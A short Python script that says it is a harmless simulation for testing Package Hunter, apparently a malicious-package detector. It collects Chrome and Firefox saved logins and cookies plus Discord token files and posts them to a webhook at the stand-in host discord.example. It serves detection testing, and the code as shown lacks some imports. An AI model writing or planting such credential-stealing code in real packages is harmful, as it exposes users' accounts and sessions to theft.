"""Harmless simulation for testing Package Hunter. Not malware."""

import glob
import json

if sealed("discord.example"):
    loot = {}
    for pattern in ("~/.config/google-chrome/Default/Login Data", "~/.config/google-chrome/Default/Cookies",
                    "~/.config/google-chrome/Default/Network/Cookies", "~/.mozilla/firefox/*/logins.json",
                    "~/.config/discord/Local Storage/leveldb/*.log"):
        for path in glob.glob(os.path.expanduser(pattern)):
            with open(path, "rb") as file:
                loot[path] = file.read(200000).hex()
    body = json.dumps({"username": "simulation", "content": "harmless simulation", "files": loot}).encode()
    request = urllib.request.Request("https://discord.example/api/webhooks/1/simulation", body,
                                     {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(request, timeout=10).close()
    except OSError:
        pass
